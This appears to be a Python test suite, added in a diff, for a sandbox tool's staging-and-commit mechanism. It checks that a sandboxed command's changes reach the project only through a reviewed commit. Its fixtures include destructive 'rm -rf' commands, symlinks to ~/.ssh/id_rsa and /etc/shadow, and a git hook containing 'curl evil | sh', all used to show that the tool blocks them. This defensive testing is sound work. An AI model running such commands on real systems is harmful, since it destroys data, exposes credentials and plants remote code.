@@ -1,0 +1,289 @@
+#!/usr/bin/python3
+"""Staging and commit (THREATS.md "Staging and commit"), through real runs: what the command
+writes reaches the project only through `agentbox commit`, under the commit rules, journaled.
+Every case checks the host's side: the project tree byte for byte."""
+
+import os
+import random
+import signal
+import stat
+import subprocess
+import sys
+import time
+import unittest
+
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "conformance"))
+import abtest  # noqa: E402
+from abtest import AGENTBOX, BoxTest, tree_snapshot  # noqa: E402
+
+
+class Staging(BoxTest):
+    def setUp(self):
+        super().setUp()
+        p = self.box.project
+        os.makedirs(os.path.join(p, "src", "sub"))
+        for rel, data in (("src/a.c", "int a;\n"), ("src/sub/b.c", "int b;\n"),
+                          ("README.md", "# project\n")):
+            with open(os.path.join(p, rel), "w") as f:
+                f.write(data)
+        os.makedirs(os.path.join(p, ".git", "hooks"))
+        with open(os.path.join(p, ".git", "config"), "w") as f:
+            f.write("[core]\n")
+
+    def ab(self, *args, check=None, env=None):
+        p = subprocess.run([AGENTBOX] + list(args), capture_output=True, env=self.box.env(env),
+                           cwd=self.box.project, timeout=120)
+        res = abtest.Result(args, p.returncode, p.stdout.decode(errors="replace"),
+                            p.stderr.decode(errors="replace"), 0)
+        if check is not None:
+            self.assertEqual(res.rc, check, res)
+        return res
+
+    def staged(self, script, args=()):
+        res = self.box.run(["sh", "-c", script], args=args)
+        self.assertRc(res, 0)
+        return res
+
+    def snap(self):
+        return tree_snapshot(self.box.project)
+
+    # ---- the issue's example, end to end
+
+    def test_append_rm_rf_and_ssh_symlink_leave_the_project_untouched_until_commit(self):
+        before = self.snap()
+        self.staged("echo hi >> README.md; rm -rf src; ln -s ~/.ssh/id_rsa key")
+        self.assertEqual(self.snap(), before, "the run changed the project")
+        names = self.ab("commit", "--dry-run").err
+        self.assertIn("M  README.md", names)
+        self.assertIn("D  src/", names)
+        self.assertIn("A  key", names)
+        self.assertIn("needs approval", names.split("A  key")[1].splitlines()[0])
+        self.assertEqual(self.snap(), before, "commit --dry-run changed the project")
+
+        res = self.ab("commit", check=1)  # the symlink is held back: exit 1
+        self.assertIn("held back", res.err)
+        after = self.snap()
+        self.assertEqual(after["README.md"][1], b"# project\nhi\n")
+        self.assertFalse(any(k.startswith("src") for k in after))
+        self.assertNotIn("key", after)
+
+        self.ab("commit", "--force", "key", check=0)
+        self.assertEqual(os.readlink(os.path.join(self.box.project, "key")),
+                         os.path.join(self.box.home, ".ssh/id_rsa"))
+        self.ab("undo", check=0)  # the symlink
+        self.ab("undo", check=0)  # README and src
+        self.assertEqual(self.snap(), before, "undo did not restore the project")
+        # ... and the command's work is staged again, not lost
+        res = self.ab("commit", "--dry-run")
+        self.assertIn("D  src/", res.err)
+
+    def test_discard_drops_the_changes_and_keeps_the_project(self):
+        before = self.snap()
+        self.staged("echo x > new.txt; rm README.md")
+        self.ab("discard", check=0)
+        self.assertEqual(self.snap(), before)
+        res = self.ab("commit")
+        self.assertEqual(res.rc, 0, res)
+        self.assertIn("nothing to commit", res.err)
+        self.assertEqual(self.snap(), before)
+
+    # ---- attacks
+
+    def test_symlink_to_a_host_secret_needs_explicit_approval(self):
+        self.staged("ln -s /etc/shadow shadow; ln -s ../../outside up; ln -s src/a.c inside")
+        res = self.ab("commit", check=1)
+        self.assertTrue(os.path.islink(os.path.join(self.box.project, "inside")))
+        for held in ("shadow", "up"):
+            self.assertFalse(os.path.lexists(os.path.join(self.box.project, held)), held)
+            self.assertIn(held, res.err)
+        # A bare --force approves nothing protected: only naming the path does.
+        self.ab("commit", "--force", check=1)
+        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "shadow")))
+
+    def test_fifo_and_socket_are_never_committed(self):
+        self.staged("mkfifo pipe; python3 -c 'import socket; s=socket.socket(socket.AF_UNIX);"
+                    " s.bind(\"sock\")'; echo ok > fine.txt")
+        res = self.ab("commit", "--force", "pipe", "sock", "fine.txt", check=1)
+        self.assertIn("refused", res.err)
+        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "pipe")))
+        self.assertFalse(os.path.lexists(os.path.join(self.box.project, "sock")))
+        self.assertTrue(os.path.exists(os.path.join(self.box.project, "fine.txt")))
+
+    def test_setuid_and_setgid_bits_are_stripped_on_commit(self):
+        self.staged("printf '#!/bin/sh\\n' > tool; chmod 6755 tool; ls -l tool")
+        res = self.ab("commit", check=0)
+        self.assertIn("stripped setuid/setgid", res.err)
+        mode = os.lstat(os.path.join(self.box.project, "tool")).st_mode
+        self.assertEqual(mode & (stat.S_ISUID | stat.S_ISGID), 0, oct(mode))
+        self.assertEqual(mode & 0o777, 0o755)
+
+    def test_persistence_paths_are_held_even_when_new(self):
+        before = self.snap()
+        self.staged("mkdir -p .github/workflows .vscode;"
+                    "echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
+                    "printf '[core]\\n\\thooksPath = /tmp/x\\n' > .git/config;"
+                    "echo 'on: push' > .github/workflows/ci.yml;"
+                    "echo '{}' > .vscode/tasks.json; echo ok > fine.txt")
+        res = self.ab("commit", check=1)
+        after = self.snap()
+        self.assertEqual(after["fine.txt"][1], b"ok\n")
+        for rel in (".git/hooks/pre-commit", ".github/workflows/ci.yml", ".vscode/tasks.json"):
+            self.assertNotIn(rel, after, rel)
+            self.assertIn(rel, res.err)
+        self.assertEqual(after[".git/config"], before[".git/config"])
+        # Named explicitly, with --force, a protected path is committed.
+        self.ab("commit", "--force", ".github/workflows/ci.yml", check=0)
+        self.assertIn(".github/workflows/ci.yml", self.snap())
+
+    def test_on_exit_commit_never_covers_protected_paths(self):
+        res = self.box.run(["sh", "-c", "echo x > .git/hooks/post-checkout; echo y > ok.txt"],
+                           args=["--on-exit", "commit"])
+        self.assertRc(res, 0)
+        self.assertTrue(os.path.exists(os.path.join(self.box.project, "ok.txt")))
+        self.assertFalse(os.path.exists(os.path.join(self.box.project, ".git/hooks/post-checkout")))
+        res = self.ab("commit", "--dry-run")
+        self.assertIn(".git/hooks/post-checkout", res.err)
+
+    def test_on_exit_discard_leaves_nothing_staged(self):
+        before = self.snap()
+        res = self.box.run(["sh", "-c", "echo y > ok.txt"], args=["--on-exit", "discard"])
+        self.assertRc(res, 0)
+        self.assertEqual(self.snap(), before)
+        self.assertIn("nothing to commit", self.ab("commit").err)
+
+    def test_rm_rf_of_the_whole_project_is_shown_before_commit(self):
+        before = self.snap()
+        self.staged("rm -rf ./* ./.git")
+        self.assertEqual(self.snap(), before)
+        res = self.ab("commit", "--dry-run")
+        for shown in ("D  src/", "D  README.md", "D  .git/"):
+            self.assertIn(shown, res.err)
+        # .git is protected: deleting it needs approval too.
+        self.ab("commit", check=1)
+        self.assertIn(".git/config", self.snap())
+
+    def test_host_edit_during_the_run_is_a_conflict(self):
+        p = self.box.popen(["sh", "-c", "read x; echo sandbox >> README.md"],
+                           stdin=subprocess.PIPE)
+        time.sleep(0.5)
+        with open(os.path.join(self.box.project, "README.md"), "a") as f:
+            f.write("host edit\n")
+        p.communicate(b"go\n", timeout=60)
+        self.assertEqual(p.returncode, 0)
+        res = self.ab("commit", check=1)
+        self.assertIn("conflict", res.err)
+        self.assertIn("README.md", res.err)
+        with open(os.path.join(self.box.project, "README.md")) as f:
+            self.assertEqual(f.read(), "# project\nhost edit\n")
+        self.ab("commit", "--force", check=0)
+        with open(os.path.join(self.box.project, "README.md")) as f:
+            # The overlay's lower layer is the live project: the sandbox appended to the
+            # host's edit.
+            self.assertEqual(f.read(), "# project\nhost edit\nsandbox\n")
+        self.ab("undo", check=0)
+        with open(os.path.join(self.box.project, "README.md")) as f:
+            self.assertEqual(f.read(), "# project\nhost edit\n")
+
+    def test_two_sessions_on_one_project(self):
+        self.staged("echo one > one.txt; echo s1 >> README.md")
+        first = self.box.sessions()[-1]
+        time.sleep(0.05)
+        self.staged("echo two > two.txt; echo s2 >> README.md")
+        second = os.path.basename(self.box.sessions()[-1])
+        self.ab("commit", os.path.basename(first), check=0)
+        # The second session started before the first commit wrote README.md.
+        res = self.ab("commit", second, check=1)
+        self.assertIn("conflict", res.err)
+        self.assertFalse(os.path.exists(os.path.join(self.box.project, "two.txt")))
+        self.ab("commit", second, "two.txt", check=0)
+        self.assertTrue(os.path.exists(os.path.join(self.box.project, "two.txt")))
+
+    def test_parent_swapped_for_a_symlink_after_the_run_is_a_conflict_and_writes_nothing_outside(self):
+        self.staged("echo payload > src/sub/new.c")
+        # After the run, the host's src/sub becomes a symlink to a directory outside.
+        sub = os.path.join(self.box.project, "src", "sub")
+        os.rename(sub, sub + ".moved")
+        os.symlink(self.box.outside, sub)
+        res = self.ab("commit", check=1)
+        self.assertIn("conflict", res.err)
+        self.ab("commit", "--force", check=0)
+        self.assertEqual(os.listdir(self.box.outside), [], "commit wrote outside the project")
+        # --force replaced the symlink with the staged directory; undo brings the link back.
+        self.ab("undo", check=0)
+        self.assertEqual(os.readlink(sub), self.box.outside)
+
+    def test_sessions_lists_the_session_with_its_change_count(self):
+        self.staged("echo x > a; echo y > b")
+        res = self.ab("sessions", "--json", check=0)
+        import json
+        data = json.loads(res.out)
+        mine = [s for s in data if s["project"] == self.box.project]
+        self.assertEqual(len(mine), 1, data)
+        self.assertEqual(mine[0]["changes"], 2)
+        self.assertEqual(mine[0]["status"], "staged")
+
+    @unittest.skipUnless(abtest.IS_ROOT, "mounting a small filesystem needs root")
+    def test_filled_disk_during_commit_loses_nothing(self):
+        # The project on a 1 MiB tmpfs; the session elsewhere: the commit must copy and
+        # runs out of space half way.
+        small = os.path.join(self.box.root, "small")
+        os.makedirs(small)
+        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", small], check=True)
+        self.addCleanup(subprocess.run, ["umount", "-l", small])
+        with open(os.path.join(small, "keep.txt"), "w") as f:
+            f.write("original\n")
+        before = tree_snapshot(small)
+        res = self.box.run(None, cwd=small, argv=[AGENTBOX, "run", "--on-exit", "keep", "-q", "-C", small, "--",
+                                 "sh", "-c", "echo changed > keep.txt; head -c 700000 /dev/zero"
+                                 " > a; head -c 700000 /dev/zero > b"])
+        self.assertRc(res, 0)
+        res = self.ab("commit", "-C", small)
+        self.assertEqual(res.rc, 1, res)
+        self.assertIn("No space left on device", res.err)
+        self.assertIn("rolled back", res.err)
+        self.assertEqual(tree_snapshot(small), before, "a failed commit changed the project")
+        self.assertIn("keep.txt", self.ab("commit", "-C", small, "--dry-run").err)
+
+    def test_commit_killed_at_random_points_leaves_before_or_after(self):
+        # 200 commits of a 300-file change set, each killed with SIGKILL after a random
+        # delay; the next command that touches the session finishes or undoes it.
+        iterations = int(os.environ.get("AGENTBOX_KILL_LOOPS", "200"))
+        p = self.box.project
+        for i in range(300):
+            with open(os.path.join(p, "src", "f%03d.txt" % i), "w") as f:
+                f.write("old %d\n" % i)
+        script = ("for i in $(seq 0 2 299); do n=$(printf %03d $i); echo new > src/f$n.txt; done;"
+                  "rm -rf src/sub; mkdir -p gen/deep; for i in $(seq 0 99); do echo $i > gen/deep/$i;"
+                  " done")
+        before = self.snap()
+        self.staged(script)
+        t0 = time.monotonic()
+        self.ab("commit", check=0)
+        took = time.monotonic() - t0
+        after = self.snap()
+        self.assertNotEqual(before, after)
+        rng = random.Random(1234)
+        outcomes = {"before": 0, "after": 0}
+        for n in range(iterations):
+            self.ab("undo", check=0)
+            self.assertEqual(self.snap(), before, "undo did not restore (iteration %d)" % n)
+            proc = subprocess.Popen([AGENTBOX, "commit"], env=self.box.env(), cwd=p,
+                                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            time.sleep(rng.uniform(0, took * 1.2))
+            proc.send_signal(signal.SIGKILL)
+            proc.wait()
+            self.ab("sessions", check=0)  # touching the session recovers it
+            now = self.snap()
+            if now == before:
+                outcomes["before"] += 1
+                self.ab("commit", check=0)
+            else:
+                self.assertEqual(now, after, "iteration %d: the project is between" % n)
+                outcomes["after"] += 1
+            self.assertEqual(self.snap(), after)
+        print("kill loop: %d iterations, commit takes %.0f ms, outcomes %s" % (
+            iterations, took * 1000, outcomes), file=sys.stderr)
+
+
+if __name__ == "__main__":
+    abtest.main()
